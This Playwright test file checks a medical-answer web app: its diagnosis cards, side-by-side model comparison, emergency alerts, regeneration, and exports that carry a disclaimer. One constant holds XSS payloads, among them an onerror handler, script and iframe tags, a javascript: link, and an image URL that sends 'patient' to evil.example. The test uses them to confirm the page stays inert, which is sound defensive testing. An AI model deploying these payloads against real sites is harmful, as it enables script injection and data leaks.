"""What the page makes of an answer: cards, text, two models side by side, an emergency; and what leaves with a person."""

import json
import time
from collections.abc import Generator, Sequence
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, Route, expect

from bedside.records import Delta, Generation, GenerationOptions, Message
from bedside.runtime.scripted import ScriptedBackend
from bedside.text.prompts import NOTICE
from bedside.text.sections import NAMES

from .conftest import PATIENCE_S, EndlessSpeaker, FailingSpeaker, Serving
from .test_page import REPLY, article, ask

SECTIONS = {
    "Diagnosis": ["Right heart failure"],
    "Differential": ["Constrictive pericarditis", "Superior vena cava obstruction"],
    "Plan": ["Echocardiography", "Weigh the patient each day"],
    "Red flags": ["Falling blood pressure"],
    "What is missing": ["History of lung disease"],
}
CARDS = ("The right atrium is full.", json.dumps(SECTIONS))
ANAPHYLAXIS = "He ate a peanut, has hives all over, swollen lips and wheezing. Blood pressure 84/46 mmHg."
BUSY = {"message": "full", "type": "rate_limit_error", "param": None, "code": "server_busy"}
HOSTILE = (
    "<img src=http://evil.example/x onerror=\"document.title='owned'\"> <script>document.title='owned'</script>\n\n"
    "![x](http://evil.example/y?q=patient) [click](javascript:document.title='owned') <b>bold</b>\n\n"
    "[data](data:text/html,<script>1</script>) <style>body{display:none}</style> <iframe src=//evil.example></iframe>"
)
WATCH_SHIFTS = """() => {
    window.shifts = [];
    new PerformanceObserver((list) => window.shifts.push(
        ...list.getEntries().filter((entry) => !entry.hadRecentInput).map((entry) => entry.value)
    )).observe({ type: "layout-shift" });
}"""


class PacedSpeaker(ScriptedBackend):
    """Says a word at a time, as slowly as a model."""

    def stream(self, messages: Sequence[Message], options: GenerationOptions) -> Generator[Delta | Generation]:
        for event in super().stream(messages, options):
            time.sleep(0.03)
            yield event


def cards(where: Page | Locator) -> list[str]:
    return where.locator(".card h5").all_inner_texts()


def ask_two(page: Page) -> None:
    """Two questions, each answered before the next."""
    for number, question in enumerate(["one", "two"]):
        ask(page, question)
        expect(article(page, number).locator(".voices")).to_have_attribute("aria-busy", "false")


def test_a_structured_answer_becomes_five_cards(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([CARDS])) as url:
        page.goto(url)
        ask(page, "What raises the JVP?")
        expect(article(page).locator(".voices")).to_have_attribute("aria-busy", "false")
        expect(page.get_by_role("heading", name="Rapid diagnosis")).to_be_visible()
        assert cards(page) == list(NAMES)
        assert page.locator(".card li").all_inner_texts() == [item for items in SECTIONS.values() for item in items]
        assert page.locator(".answer").inner_text() == ""


def test_nothing_that_is_shown_moves_while_cards_stream_in(serving: Serving, page: Page) -> None:
    with serving(PacedSpeaker([CARDS])) as url:
        page.goto(url)
        expect(page.get_by_text("Model: scripted")).to_be_visible()
        page.evaluate(WATCH_SHIFTS)
        ask(page, "What raises the JVP?")
        expect(article(page).locator(".voices")).to_have_attribute("aria-busy", "false")
        assert cards(page) == list(NAMES)
        assert sum(page.evaluate("window.shifts")) < 0.01


def test_text_is_asked_for_in_the_settings_and_shown_as_the_server_renders_it(serving: Serving, page: Page) -> None:
    speaker = ScriptedBackend([("", "**Bold** and\n\n- one\n- two")])
    with serving(speaker) as url:
        page.goto(url)
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("Text", exact=True).check()
        page.get_by_role("button", name="Done", exact=True).click()
        ask(page, "What raises the JVP?")
        expect(article(page).locator(".answer strong")).to_have_text("Bold")
        expect(article(page).locator(".answer li")).to_have_count(2)
        expect(article(page).get_by_text("Answered without visible reasoning.")).to_be_visible()
    assert [options.schema for options in speaker.options] == [""]


@pytest.mark.parametrize(
    "answer", [HOSTILE, json.dumps({name: [HOSTILE[:110]] for name in NAMES})], ids=["text", "cards"]
)
def test_a_hostile_answer_does_nothing_and_calls_nobody(serving: Serving, page: Page, answer: str) -> None:
    with serving(ScriptedBackend([(HOSTILE, answer)])) as url:
        page.goto(url)
        ask(page, HOSTILE)
        expect(article(page).locator(".voices")).to_have_attribute("aria-busy", "false")
        expect(article(page)).to_contain_text("evil.example")
        article(page).locator("summary").click()
        expect(article(page).locator(".reasoning")).to_have_text(HOSTILE)
        expect(page).to_have_title("Bedside")
        acting = "article :is(img, script, style, iframe, b, [onerror]), article a:not([href^='http'])"
        assert page.locator(acting).count() == 0


def test_base_and_tuned_stream_side_by_side_and_one_stop_ends_both(serving: Serving, page: Page) -> None:
    tuned, base = EndlessSpeaker(), EndlessSpeaker()
    tuned.name, base.name = "demo", "demo-base"
    with serving(tuned, base) as url:
        page.goto(url)
        page.get_by_label("Base against tuned").check()
        ask(page, "Say much.")
        voices = article(page).locator(".voice")
        assert voices.locator(".speaker").all_inner_texts() == ["Answer of demo-base", "Answer of demo"]
        for number in range(2):
            expect(voices.nth(number).locator(".answer")).to_contain_text("word word")
        left, right = (voices.nth(number).bounding_box() for number in range(2))
        assert left
        assert right
        assert left["y"] == right["y"]
        assert left["x"] + left["width"] < right["x"]
        page.set_viewport_size({"width": 360, "height": 640})
        upper, lower = (voices.nth(number).bounding_box() for number in range(2))
        assert upper
        assert lower
        assert upper["x"] == lower["x"]
        assert upper["y"] + upper["height"] < lower["y"]
        page.keyboard.press("Escape")
        assert tuned.closed.acquire(timeout=PATIENCE_S)
        assert base.closed.acquire(timeout=PATIENCE_S)
        expect(page.get_by_text("Stopped. What stands here is incomplete.")).to_have_count(2)


def test_each_model_is_reminded_of_its_own_answer(serving: Serving, page: Page) -> None:
    tuned = ScriptedBackend([("", "tuned 1"), ("", "tuned 2")], name="demo")
    base = ScriptedBackend([("", "base 1"), ("", "base 2")], name="demo-base")
    with serving(tuned, base) as url:
        page.goto(url)
        page.get_by_label("Base against tuned").check()
        ask_two(page)
    assert [tuned.asked[1][-2].content, base.asked[1][-2].content] == ["tuned 1", "base 1"]


def test_when_one_of_two_fails_the_other_goes_on(serving: Serving, page: Page) -> None:
    tuned = ScriptedBackend([REPLY], name="demo")
    broken = FailingSpeaker(RuntimeError("a bug"))
    with serving(tuned, broken) as url:
        page.goto(url)
        page.get_by_label("Two models side by side").check()
        ask(page, "What raises the JVP?")
        expect(article(page)).to_contain_text(REPLY[1])
        expect(article(page).locator(".voice").first).to_contain_text("The server refused")
        expect(page.get_by_role("alert")).to_contain_text("The server refused")


def test_one_model_offers_no_comparison(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([])) as url:
        page.goto(url)
        expect(page.get_by_text("Model: scripted")).to_be_visible()
        expect(page.get_by_role("checkbox")).to_have_count(0)


def test_an_emergency_is_the_first_thing_and_names_its_signs_and_its_source(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([CARDS])) as url:
        page.set_viewport_size({"width": 360, "height": 640})
        page.goto(url)
        ask(page, ANAPHYLAXIS)
        alarm = article(page).get_by_role("alert")
        expect(alarm).to_contain_text("anaphylaxis")
        expect(alarm).to_contain_text("Signs read in the text: ")
        expect(alarm.locator(".alarm-title")).to_be_in_viewport()
        for link in alarm.get_by_role("link").all():
            assert "noreferrer" in (link.get_attribute("rel") or "")
        expect(article(page).locator(".voices")).to_have_attribute("aria-busy", "false")
        expect(alarm.locator(".alarm-title")).to_be_in_viewport()
        assert article(page).locator(":scope > *").first.get_attribute("role") == "alert"


def test_of_further_emergencies_the_name_is_shown_and_the_rest_on_demand(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([CARDS])) as url:
        page.goto(url)
        ask(page, f"{ANAPHYLAXIS} SpO2 84 %.")
        second = article(page).locator(".alarm details").first
        expect(second.locator("summary")).to_have_text("Airway or breathing in danger")
        expect(second.get_by_text("Source:")).to_be_hidden()
        second.locator("summary").click()
        expect(second.get_by_text("Source:")).to_be_visible()


def test_an_emergency_stays_when_the_model_fails(serving: Serving, page: Page) -> None:
    with serving(FailingSpeaker(RuntimeError("a bug"))) as url:
        page.goto(url)
        ask(page, ANAPHYLAXIS)
        expect(page.locator("#failure")).to_be_visible()
        expect(article(page).get_by_role("alert")).to_be_visible()
        expect(page.get_by_role("button", name="Regenerate")).to_be_visible()


def test_an_emergency_stays_when_the_first_of_two_models_is_refused(serving: Serving, page: Page) -> None:
    busy = {"error": {"message": "busy", "code": "server_busy"}}

    def refuse_base(route: Route) -> None:
        if route.request.post_data_json["model"] == "base":
            route.fulfill(status=429, json=busy, headers={"Retry-After": "5"})
        else:
            route.continue_()

    page.route("**/v1/answer", refuse_base)
    with serving(ScriptedBackend([REPLY], name="demo"), ScriptedBackend([], name="base")) as url:
        page.goto(url)
        page.get_by_label("Two models side by side").check()
        ask(page, ANAPHYLAXIS)
        expect(article(page).locator(".voices")).to_have_attribute("aria-busy", "false")
        expect(article(page).locator(".alarm")).to_be_visible()
        expect(article(page).locator(".voice").first).not_to_contain_text("Answered without visible reasoning")
        page.get_by_role("button", name="History").click()
        page.locator("#past button").first.click()
        expect(article(page).locator(".alarm")).to_be_visible()


def test_a_bug_of_the_page_is_called_one(serving: Serving, page: Page) -> None:
    broken = page.context.browser.new_page()
    broken.route("**/v1/answer", lambda route: route.fulfill(body='data: {"type": "reasoning", "text": null}\n\n'))
    with serving(ScriptedBackend([])) as url:
        broken.goto(url)
        with broken.expect_event("pageerror", timeout=PATIENCE_S * 1000) as bug:
            ask(broken, "What raises the JVP?")
        expect(broken.locator("#failure")).to_contain_text("The page met an error of its own")
        expect(broken.get_by_role("button", name="Send")).to_be_visible()
    assert "TypeError" in bug.value.name + str(bug.value)
    broken.close()


def test_a_bug_of_the_page_does_not_leave_the_model_running(
    serving: Serving, page: Page, endless: EndlessSpeaker
) -> None:
    broken = page.context.browser.new_page()
    broken.add_init_script(
        "const read = JSON.parse; JSON.parse = (text) => { if (text.includes('word ')) throw new Error('odd'); return read(text); };"
    )
    with serving(endless) as url:
        broken.goto(url)
        with broken.expect_event("pageerror", timeout=PATIENCE_S * 1000):
            ask(broken, "What raises the JVP?")
        assert endless.closed.acquire(timeout=PATIENCE_S)
    broken.close()


def test_what_has_been_shown_of_an_answer_stays_with_its_focus_and_selection(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([])) as url:
        page.goto(url)
        kept, shown = page.evaluate("""async () => {
            const { renew } = await import("/dom.js");
            const box = document.createElement("div");
            const made = (html) => Object.assign(document.createElement("template"), { innerHTML: html }).content;
            renew(box, made("<p>a</p><p>b</p>"));
            const [first, second] = box.children;
            renew(box, made("<p>a</p><p>bc</p><ul><li>d</li></ul>"));
            const kept = box.children[0] === first && box.children[1] !== second && box.children.length === 3;
            renew(box, made("<p>a</p>"));
            return [kept, box.innerHTML];
        }""")
    assert (kept, shown) == (True, "<p>a</p>")


def test_regenerate_draws_another_answer_in_place_of_the_last(serving: Serving, page: Page) -> None:
    speaker = ScriptedBackend([("", "first"), ("", "second")])
    with serving(speaker) as url:
        page.goto(url)
        ask(page, "What raises the JVP?")
        expect(article(page)).to_contain_text("first")
        page.get_by_role("button", name="Regenerate").press("Enter")
        expect(article(page)).to_contain_text("second")
        expect(page.get_by_role("article")).to_have_count(1)
        expect(page.locator("#question")).to_be_focused()
    assert [len(asked) for asked in speaker.asked] == [2, 2]
    first, second = speaker.options
    assert (first.temperature, second.temperature) == (0, 0.7)
    assert first.seed != second.seed


@pytest.mark.parametrize("then", ["refused", "stopped"])
def test_regenerate_keeps_the_old_answer_until_there_is_another(serving: Serving, page: Page, then: str) -> None:
    speaker = EndlessSpeaker(thinking=True)
    first = ScriptedBackend([("", "first")])
    with serving(first) as url:
        page.goto(url)
        ask(page, "What raises the JVP?")
        expect(article(page).locator(".voices")).to_have_attribute("aria-busy", "false")
        if then == "refused":
            page.route("**/v1/answer", lambda route: route.fulfill(status=429, json={"error": BUSY}))
            page.get_by_role("button", name="Regenerate").click()
            expect(page.locator("#failure")).to_contain_text("busy")
        else:
            first.stream = speaker.stream  # type: ignore[method-assign]
            page.get_by_role("button", name="Regenerate").click()
            assert speaker.started.acquire(timeout=PATIENCE_S)
            page.get_by_role("button", name="Stop").click()
        expect(article(page)).to_contain_text("first")
        expect(page.get_by_role("article")).to_have_count(1)
        expect(page.get_by_label("Your question")).to_have_value("")
        expect(page.get_by_role("button", name="Regenerate")).to_be_visible()


def test_a_copied_answer_carries_model_and_disclaimer(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([REPLY])) as url:
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        page.goto(url)
        ask(page, "What raises the JVP?")
        page.get_by_role("button", name="Copy answer").click()
        expect(page.get_by_role("button", name="Copied")).to_be_visible()
        copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith(REPLY[1] + "\n")
    assert "scripted" in copied
    assert NOTICE in copied


def test_what_leaves_the_page_says_that_it_is_incomplete(
    serving: Serving, page: Page, endless: EndlessSpeaker, tmp_path: Path
) -> None:
    with serving(endless) as url:
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        page.goto(url)
        ask(page, "What raises the JVP?")
        assert endless.started.acquire(timeout=PATIENCE_S)
        page.get_by_role("button", name="Stop").click()
        page.get_by_role("button", name="Copy answer").click()
        expect(page.get_by_role("button", name="Copied")).to_be_visible()
        copied = page.evaluate("navigator.clipboard.readText()")
        for kind in ("Markdown", "JSON"):
            with page.expect_download() as waited:
                page.get_by_role("button", name=kind).click()
            waited.value.save_as(tmp_path / kind)
    for text in (copied, *((tmp_path / kind).read_text(encoding="utf-8") for kind in ("Markdown", "JSON"))):
        assert "Stopped. What stands here is incomplete." in text


def test_downloads_of_two_answers_have_names_of_their_own(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([REPLY]), ScriptedBackend([REPLY], name="scripted-base")) as url:
        page.goto(url)
        page.get_by_label("Base against tuned").check()
        ask(page, "What raises the JVP?")
        expect(article(page).locator(".voices")).to_have_attribute("aria-busy", "false")
        names = []
        for button in page.get_by_role("button", name="Markdown").all():
            with page.expect_download() as waited:
                button.click()
            names.append(waited.value.suggested_filename)
    assert names[0].endswith("-scripted-base.md")
    assert names[1].endswith("-scripted.md")


def test_only_the_last_answer_can_be_drawn_anew(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([REPLY, REPLY])) as url:
        page.goto(url)
        ask_two(page)
        expect(article(page, 0).get_by_role("button", name="Regenerate")).to_be_hidden()
        expect(article(page, 1).get_by_role("button", name="Regenerate")).to_be_visible()


def test_an_answer_names_its_model_once_another_is_chosen(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([REPLY]), ScriptedBackend([], name="other")) as url:
        page.goto(url)
        ask(page, "What raises the JVP?")
        expect(article(page).locator(".voices")).to_have_attribute("aria-busy", "false")
        expect(page.locator(".speaker")).to_have_css("position", "absolute")
        page.get_by_role("button", name="Settings", exact=True).click()
        page.get_by_label("Model", exact=True).select_option("other")
        page.get_by_role("button", name="Done", exact=True).click()
        expect(page.get_by_text("Model: other")).to_be_visible()
        expect(page.locator(".speaker")).to_have_css("position", "static")
        page.emulate_media(media="print")
        expect(page.get_by_text("Model: other")).to_be_hidden()
        expect(page.get_by_text("Answer of scripted")).to_be_visible()


def test_downloads_carry_question_reasoning_model_and_disclaimer(serving: Serving, page: Page, tmp_path: Path) -> None:
    with serving(ScriptedBackend([CARDS])) as url:
        page.goto(url)
        ask(page, "What raises the JVP?")
        saved = {}
        for name in ("Markdown", "JSON"):
            with page.expect_download() as waited:
                page.get_by_role("button", name=name).click()
            saved[name] = tmp_path / waited.value.suggested_filename
            waited.value.save_as(saved[name])
    text = saved["Markdown"].read_text(encoding="utf-8")
    for part in (
        NOTICE,
        "What raises the JVP?",
        "## Differential\n\n- Constrictive pericarditis",
        CARDS[0],
        "scripted",
    ):
        assert part in text
    read = json.loads(saved["JSON"].read_text(encoding="utf-8"))
    assert read["question"] == "What raises the JVP?"
    assert {section["name"]: section["items"] for section in read["sections"]} == SECTIONS
    assert (read["model"], read["notice"]) == ("scripted", NOTICE)


def test_print_shows_one_answer_with_the_notice_and_no_controls(serving: Serving, page: Page) -> None:
    with serving(ScriptedBackend([REPLY, CARDS])) as url:
        page.goto(url)
        ask_two(page)
        page.evaluate("window.print = () => {}")
        article(page, 1).get_by_role("button", name="Print").click()
        page.emulate_media(media="print")
        expect(page.locator("article").first).to_be_hidden()
        expect(page.locator(".card").first).to_be_visible()
        expect(page.get_by_text(NOTICE)).to_be_visible()
        expect(page.get_by_role("button")).to_have_count(0)
        expect(page.locator(".speaker").nth(1)).to_have_css("position", "static")
        page.evaluate("dispatchEvent(new Event('afterprint'))")
        expect(page.locator("article").first).to_be_visible()
